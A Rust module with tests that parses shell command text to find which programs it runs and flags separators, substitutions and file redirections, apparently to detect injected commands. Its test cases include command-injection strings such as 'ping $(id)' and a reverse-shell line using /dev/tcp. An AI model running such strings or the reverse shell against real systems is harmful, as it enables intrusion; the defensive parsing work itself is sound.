//! A shell's command text, taken apart as far as it says who runs (POSIX.1-2017, XCU 2).

/// Most commands of a text that are looked at.
const MAX_COMMANDS: usize = 64;

/// One simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Command {
    /// Where its first word begins.
    pub at: usize,
    /// Its words without quotes, the program first.
    pub words: Vec<String>,
}

/// A command text.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Script {
    /// Its commands in order.
    pub commands: Vec<Command>,
    /// Where a character stands that means something to the shell, and ends or begins a command.
    pub joints: Vec<usize>,
    /// Whether commands stand in it for what they print, or side by side, or one after the other whatever
    /// became of the first; or output goes to a file.
    pub elaborate: bool,
}

impl Script {
    /// Takes a text apart.
    pub fn of(text: &str) -> Self {
        let mut reader = Reader { text, ..Reader::default() };
        reader.read();
        reader.end_command();
        reader.script
    }

    /// The programs that it runs, as far as their names stand there.
    pub fn programs(&self) -> impl Iterator<Item = (&str, &[String])> {
        self.commands.iter().filter_map(|command| {
            // `NAME=value exec program`
            let before =
                |word: &&String| is_assignment(word) || matches!(word.as_str(), "exec" | "command" | "time");
            let before = command.words.iter().take_while(before).count();
            let (program, args) = command.words[before..].split_first()?;
            Some((program.as_str(), args))
        })
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

#[derive(Default)]
struct Reader<'a> {
    text: &'a str,
    at: usize,
    script: Script,
    command: Command,
    word: Option<(usize, String)>,
}

impl Reader<'_> {
    fn read(&mut self) {
        let bytes = self.text.as_bytes();
        while let Some(&byte) = bytes.get(self.at) {
            if self.script.commands.len() >= MAX_COMMANDS {
                return;
            }
            match byte {
                b'\'' => self.single_quotes(),
                b'"' => self.double_quotes(),
                b'\\' => self.escape(),
                b' ' | b'\t' => {
                    self.end_word();
                    self.at += 1;
                }
                b'#' if self.word.is_none() => {
                    self.at = self.text[self.at..].find('\n').map_or(self.text.len(), |n| self.at + n);
                }
                b'<' | b'>' => self.redirection(),
                b';' | b'\n' | b'(' | b')' | b'`' => self.joint(1, true),
                b'&' if bytes.get(self.at + 1) == Some(&b'&') => self.joint(2, false),
                b'&' if bytes.get(self.at + 1) == Some(&b'>') => {
                    self.at += 1;
                    self.redirection();
                }
                b'&' => self.joint(1, true),
                b'|' => self.joint(if bytes.get(self.at + 1) == Some(&b'|') { 2 } else { 1 }, false),
                b'$' if bytes.get(self.at + 1) == Some(&b'(') => self.joint(2, true),
                _ => self.plain(),
            }
        }
    }

    fn plain(&mut self) {
        let Some(c) = self.text[self.at..].chars().next() else { return };
        self.push(c);
        self.at += c.len_utf8();
    }

    fn push(&mut self, c: char) {
        self.word.get_or_insert((self.at, String::new())).1.push(c);
    }

    fn single_quotes(&mut self) {
        let begin = self.at;
        let inner = &self.text[begin + 1..];
        let end = inner.find('\'').unwrap_or(inner.len());
        self.word.get_or_insert((begin, String::new())).1.push_str(&inner[..end]);
        self.at = (begin + end + 2).min(self.text.len());
    }

    fn double_quotes(&mut self) {
        self.word.get_or_insert((self.at, String::new()));
        self.at += 1;
        while let Some(c) = self.text[self.at..].chars().next() {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' => self.escape(),
                // What they print becomes part of the word.
                '`' => {
                    self.note(self.at);
                    self.at += 1;
                }
                '$' if self.text[self.at..].starts_with("$(") => {
                    self.note(self.at);
                    self.at += 2;
                }
                _ => self.plain(),
            }
        }
    }

    fn escape(&mut self) {
        self.at += 1;
        self.plain();
    }

    /// `> FILE`, `2>&1`, `< FILE`. Where it goes to nowhere, or to another descriptor, nothing is written.
    fn redirection(&mut self) {
        // A number before it is the descriptor.
        if self.word.as_ref().is_some_and(|(_, word)| word.bytes().all(|b| b.is_ascii_digit())) {
            self.word = None;
        }
        self.end_word();
        let rest = &self.text[self.at..];
        let signs = rest.find(|c| !matches!(c, '<' | '>' | '&' | '|')).unwrap_or(rest.len());
        let behind = rest[signs..].trim_start_matches([' ', '\t']);
        let end = behind.find(|c: char| c.is_whitespace() || ";&|()<>`".contains(c)).unwrap_or(behind.len());
        let target = behind[..end].trim_matches(['\'', '"']);
        let descriptor =
            rest[..signs].ends_with('&') && target.bytes().all(|b| b.is_ascii_digit() || b == b'-');
        if !matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr") && !descriptor {
            self.note(self.at);
        }
        self.at = self.text.len() - behind.len() + end;
    }

    fn joint(&mut self, len: usize, elaborate: bool) {
        self.end_word();
        let begin = self.at;
        self.at += len;
        self.end_command();
        // The last separator ends what was, and begins nothing.
        if elaborate && !self.text[self.at..].trim().is_empty() {
            self.script.elaborate = true;
        }
        self.script.joints.push(begin);
    }

    fn note(&mut self, at: usize) {
        self.script.elaborate = true;
        self.script.joints.push(at);
    }

    fn end_word(&mut self) {
        if let Some((at, word)) = self.word.take() {
            if self.command.words.is_empty() {
                self.command.at = at;
            }
            self.command.words.push(word);
        }
    }

    fn end_command(&mut self) {
        self.end_word();
        let command = std::mem::take(&mut self.command);
        if !command.words.is_empty() {
            self.script.commands.push(command);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<String> {
        Script::of(text)
            .programs()
            .map(|(name, args)| [&[name.to_owned()], args].concat().join(" "))
            .collect()
    }

    #[test]
    fn commands() {
        let cases: &[(&str, &[&str], bool)] = &[
            (
                "convert 'a b.png' -resize 10x10 \"c;d.png\"",
                &["convert a b.png -resize 10x10 c;d.png"],
                false,
            ),
            ("/usr/sbin/sendmail -t -i", &["/usr/sbin/sendmail -t -i"], false),
            ("ffmpeg -i a b 2>&1", &["ffmpeg -i a b"], false),
            ("df -h >/dev/null 2> /dev/null", &["df -h"], false),
            ("cd /repo && git pull", &["cd /repo", "git pull"], false),
            ("ps aux | grep x", &["ps aux", "grep x"], false),
            ("A=1 make;", &["make"], false),
            ("exec 'git' 'log'", &["git log"], false),
            ("ping 1.1.1.1; id", &["ping 1.1.1.1", "id"], true),
            ("ping `id`", &["ping", "id"], true),
            ("ping $(id)", &["ping", "id"], true),
            ("echo \"$(id)\"", &["echo id)"], true),
            ("echo '$(id)'", &["echo $(id)"], false),
            ("id > /tmp/x", &["id"], true),
            ("bash -i >& /dev/tcp/h/1 0>&1", &["bash -i"], true),
            ("a\nb", &["a", "b"], true),
            ("sleep 1 & id", &["sleep 1", "id"], true),
            ("echo \\; id", &["echo ; id"], false),
            ("id # comment; x", &["id"], false),
            ("'unended", &["unended"], false),
            ("", &[], false),
        ];
        for (text, expected, elaborate) in cases {
            let script = Script::of(text);
            assert_eq!(programs(text), *expected, "{text}");
            assert_eq!(script.elaborate, *elaborate, "{text}");
        }
    }

    #[test]
    fn any_text_is_read_to_its_end() {
        for text in ["\\", "\"\\", "$(", "`", "'", "2>", "&>", ">&", "é'é\"é\\é", "<<<", "&&||;;"] {
            for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
                Script::of(&text[..end]);
            }
        }
        assert!(Script::of(&";a".repeat(10_000)).commands.len() <= MAX_COMMANDS);
    }
}
